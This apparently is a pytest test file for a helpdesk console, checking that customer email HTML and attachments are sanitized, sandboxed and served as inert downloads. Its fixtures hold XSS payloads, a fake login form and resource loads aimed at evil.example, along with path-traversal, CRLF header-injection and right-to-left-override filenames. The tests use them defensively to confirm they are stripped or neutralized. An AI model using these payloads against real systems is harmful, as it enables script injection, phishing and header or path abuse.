"""Files of customers are shown and handed out, and can do nothing in our pages."""

import base64

import pytest
from sqlalchemy import select

from console.pages.tickets.files import detect_media_type
from ingest.intake import Arrival, Intake, Transport
from ingest.processing.process import process_delivery
from parsers.item import Attachment, Encoding, Format
from tests.support.context import list_audit_entries, make_mail, open_ticket
from tests.support.signed_in_client import Desk, sign_in_at_desk
from workflow.context import AppContext
from workflow.models.core import Message, StoredAttachment

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
PDF = b"%PDF-1.4\n%%EOF\n"
HOSTILE = """
<script>alert(1)</script><p onclick="alert(2)">hello</p><a href="javascript:alert(3)">go</a>
<a href=" JaVaScRiPt:alert(4)">go</a><a href="data:text/html,<script>alert(5)</script>">go</a>
<div style="background:url(https://evil.example/a.png);position:fixed;color:red">styled</div>
<style>@import url(https://evil.example/b.css);</style><link rel="stylesheet" href="https://evil.example/c.css">
<form action="https://evil.example/d"><input name="password"><button>Sign in again</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/e"><base href="https://evil.example/">
<iframe src="https://evil.example/f"></iframe><object data="https://evil.example/g"></object>
<svg onload="alert(6)"><script>alert(7)</script></svg><math><mtext></mtext></math>
<img src="https://evil.example/h.png"><img src=x onerror="alert(8)"><video src="https://evil.example/i"></video>
<img src="/attachments/1/view"><a href="/sign-out">out</a>
<noscript><p title="</noscript><img src=x onerror=alert(9)>">
"""


@pytest.fixture
def desk(context: AppContext) -> Desk:
    return sign_in_at_desk(context)


def create_ticket_with_files(
    context: AppContext, *files: Attachment, html: str = ""
) -> tuple[int, list[int], int]:
    """A ticket with these files: its number, theirs, and its message's."""
    number = open_ticket(context, make_mail("see file", attachments=files, html=html))
    with context.store.read_only() as session:
        message = session.scalars(select(Message.id).where(Message.ticket_id == number)).one()
        rows = (
            select(StoredAttachment.id)
            .where(StoredAttachment.message_id == message)
            .order_by(StoredAttachment.id)
        )
        return number, list(session.scalars(rows)), message


def file(
    name: str, content: bytes, mime: str = "application/octet-stream", **more: str
) -> Attachment:
    return Attachment(name=name, mime=mime, content=content, inline=bool(more), **more)


# -- the HTML of mails ----


def test_hostile_html_is_inert(context: AppContext, desk: Desk) -> None:
    *_, message = create_ticket_with_files(context, html=HOSTILE)
    answer = desk.get(f"/messages/{message}/html")
    body = answer.text.partition("<body>")[2].lower()
    policy = answer.headers["Content-Security-Policy"]
    assert "hello" in body
    for bad in (
        "<script",
        "onclick",
        "onerror",
        "onload",
        "javascript:",
        "alert(",
        "url(",
        "@import",
        "<form",
        "<input",
        "<button",
        "<meta",
        "<base",
        "<iframe",
        "<object",
        "<svg",
        "<link",
        "<video",
        "position:fixed",
        "/attachments/",
        "/sign-out",
        "data:text",
    ):
        assert bad not in body, bad
    assert ' src="https:' not in body
    assert policy.startswith(
        "sandbox allow-popups allow-popups-to-escape-sandbox; default-src 'none';"
    )
    assert policy.count("allow") == 2
    assert "script-src" not in policy
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "no-store"


def test_pictures_of_other_servers_are_left_out_and_that_is_said(
    context: AppContext, desk: Desk
) -> None:
    *_, message = create_ticket_with_files(
        context, html="<p>x</p><img src='https://t.example/1'><img src='https://t.example/2'>"
    )
    assert "2 pictures of other servers left out" in desk.get(f"/messages/{message}/html").text


def test_the_page_shows_text_and_frames_the_html_without_rights(
    context: AppContext, desk: Desk
) -> None:
    number, _, message = create_ticket_with_files(
        context, html="<p>see <b>file</b></p><script>1</script>"
    )
    page = desk.get(f"/tickets/{number}").text
    sandbox = (
        'sandbox="allow-popups allow-popups-to-escape-sandbox"'  # links, in a tab of their own
    )
    assert f'<iframe class="mail" {sandbox} loading="lazy" src="/messages/{message}/html"' in page
    assert page.index("see file") < page.index("<iframe")
    assert "<script>1" not in page


def test_a_mail_shows_its_own_pictures_and_no_other_tickets(
    context: AppContext, desk: Desk
) -> None:
    mine, theirs = (
        file("a.png", PNG, "image/png", content_id="logo@x"),
        file("b.png", PNG, content_id="secret@x"),
    )
    create_ticket_with_files(context, theirs)
    html = (
        '<img src="cid:logo@x"><img src="cid:LOGO%40x"><img src="cid:secret@x"><img'
        ' src="cid:../../etc/passwd">'
    )
    *_, message = create_ticket_with_files(context, mine, html=html)
    shown = desk.get(f"/messages/{message}/html").text
    assert shown.count("data:image/png;base64,") == 2
    assert "cid:" not in shown
    assert shown.count("<img") == 4  # the other two stay, empty


def test_an_inline_picture_that_is_none_is_not_shown(context: AppContext, desk: Desk) -> None:
    script = file("a.svg", b"<svg onload=alert(1)>", "image/svg+xml", content_id="logo@x")
    *_, message = create_ticket_with_files(context, script, html='<img src="cid:logo@x">')
    assert "data:" not in desk.get(f"/messages/{message}/html").text.partition("<body>")[2]


def test_a_message_without_html_has_none(context: AppContext, desk: Desk) -> None:
    *_, message = create_ticket_with_files(context)
    assert desk.get(f"/messages/{message}/html").status_code == 404


# -- files ----


@pytest.mark.parametrize(
    ("name", "saved_name"),
    [
        ("claim 77.pdf", "claim 77.pdf"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ('x"; filename="evil.exe', "evil.exe"),
        ("a\r\nSet-Cookie: x=1.txt", "a"),
        ("invoice\u202efdp.exe", "invoice"),
        ("Rechnung für März.xlsx", "Rechnung"),
        ("", "attachment"),
        ("." * 300, "attachment"),
        ("n" * 900 + ".txt", "nnn"),
    ],
)
def test_names_are_safe_to_save(
    context: AppContext, desk: Desk, name: str, saved_name: str
) -> None:
    _, (number,), _ = create_ticket_with_files(context, file(name, b"MZ"))
    answer = desk.get(f"/attachments/{number}")
    disposition = answer.headers["Content-Disposition"]
    assert disposition.startswith("attachment")
    assert saved_name in disposition
    assert not set("/\\\r\n\u202e") & set(disposition)
    assert disposition.count('"') in {0, 2}  # none within the name
    assert "Set-Cookie" not in answer.headers
    assert len(disposition) < 700


def test_every_file_is_a_download_of_bytes(context: AppContext, desk: Desk) -> None:
    for mime in ("text/html", "image/svg+xml", "application/xhtml+xml", "image/png"):
        _, (number,), _ = create_ticket_with_files(
            context, file("x", b"<script>alert(1)</script>", mime)
        )
        answer = desk.get(f"/attachments/{number}")
        assert answer.mimetype == "application/octet-stream"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
        assert answer.headers["Cache-Control"] == "no-store"
        assert answer.data == b"<script>alert(1)</script>"
        assert desk.get(f"/attachments/{number}/view").status_code == 404


def test_what_a_file_is_its_bytes_say(context: AppContext, desk: Desk) -> None:
    _, (picture, paper), _ = create_ticket_with_files(
        context, file("x.html", PNG, "text/html"), file("y.svg", PDF, "image/svg+xml")
    )
    answer = desk.get(f"/attachments/{picture}/view")
    assert (answer.mimetype, answer.data) == ("image/png", PNG)
    assert answer.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
    answer = desk.get(f"/attachments/{paper}/view")
    assert answer.mimetype == "application/pdf"
    assert answer.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
    assert answer.headers["Content-Disposition"].startswith("inline")


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PNG, "image/png"),
        (PDF, "application/pdf"),
        (b"\xff\xd8\xff\xe0", "image/jpeg"),
        (b"GIF89a", "image/gif"),
        (b"RIFF\x0a\x00\x00\x00WEBPVP8 ", "image/webp"),
        (b"<svg/>", ""),
        (b"<html>%PDF-1.4", ""),
        (b"", ""),
        (b" \x89PNG\r\n\x1a\n", ""),
        (b"RIFF", ""),
    ],
)
def test_signatures(content: bytes, kind: str) -> None:
    assert detect_media_type(content) == kind


def test_a_large_file_lies_in_a_blob_and_comes_back(context: AppContext, desk: Desk) -> None:
    content = PNG + b"\0" * 600_000
    number, (large,), _ = create_ticket_with_files(context, file("big.png", content, "image/png"))
    assert desk.get(f"/attachments/{large}").data == content
    assert "600.1 KB" in desk.get(f"/tickets/{number}").text


def test_who_opened_what_is_on_record_by_number(context: AppContext, desk: Desk) -> None:
    number, (one,), message = create_ticket_with_files(
        context, file("Mrs Example.pdf", PDF), html="<p>x</p>"
    )
    desk.get(f"/attachments/{one}")
    desk.get(f"/messages/{message}/html")
    rows = list_audit_entries(context, number, "file opened")
    assert [(r.actor, r.detail) for r in rows] == [
        ("Ann Lee", {"attachment": one}),
        ("Ann Lee", {"message": message}),
    ]


def test_nobody_gets_a_file_without_signing_in(context: AppContext) -> None:
    _, (one,), message = create_ticket_with_files(context, file("x", PNG), html="<p>x</p>")
    stranger = Desk(context)
    for path in (
        f"/attachments/{one}",
        f"/attachments/{one}/view",
        f"/messages/{message}/html",
        "/attachments/999",
    ):
        answer = stranger.get(path)
        assert (answer.status_code, answer.location.partition("?")[0]) == (302, "/login")


def test_a_message_too_long_for_the_timeline_is_read_whole(context: AppContext, desk: Desk) -> None:
    number = open_ticket(context, make_mail("word " * 10_000 + "the end"))
    page = desk.get(f"/tickets/{number}").text
    assert "the end" not in page
    with context.store.read_only() as session:
        message = session.scalars(select(Message.id)).one()
    assert f"/messages/{message}/text" in page
    assert "the end" in desk.get(f"/messages/{message}/text").text


def test_files_are_read_from_the_stored_mail(context: AppContext, desk: Desk) -> None:
    part = (
        "--x\r\nContent-Type: {}\r\nContent-ID: <{}>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        "{}\r\n"
    )
    files = {"one": ("image/png", PNG), "two": ("image/png", PNG), "pdf": ("application/pdf", PDF)}
    parts = [part.format(t, n, base64.b64encode(c).decode()) for n, (t, c) in files.items()]
    raw = (
        "From: ann@practice.example\r\nSubject: x\r\nMessage-ID: <pictures@x.example>\r\n"
        "Content-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
        f"<p>see <img src='cid:one'> <img src='cid:two'></p>\r\n{''.join(parts)}--x--\r\n"
    ).encode()
    arrival = Arrival(transport=Transport.SMTP, format=Format.MAIL, raw=raw)
    process_delivery(context, Intake(context).accept(arrival))
    with context.store.read_only() as session:
        rows = list(session.scalars(select(StoredAttachment).order_by(StoredAttachment.id)))
    assert {row.encoding for row in rows} == {Encoding.BASE64}
    assert [desk.get(f"/attachments/{row.id}").data for row in rows] == [PNG, PNG, PDF]
    assert desk.get(f"/attachments/{rows[2].id}/view").data == PDF
    page = desk.get(f"/messages/{rows[0].message_id}/html").text
    assert page.count(f"data:image/png;base64,{base64.b64encode(PNG).decode()}") == 2
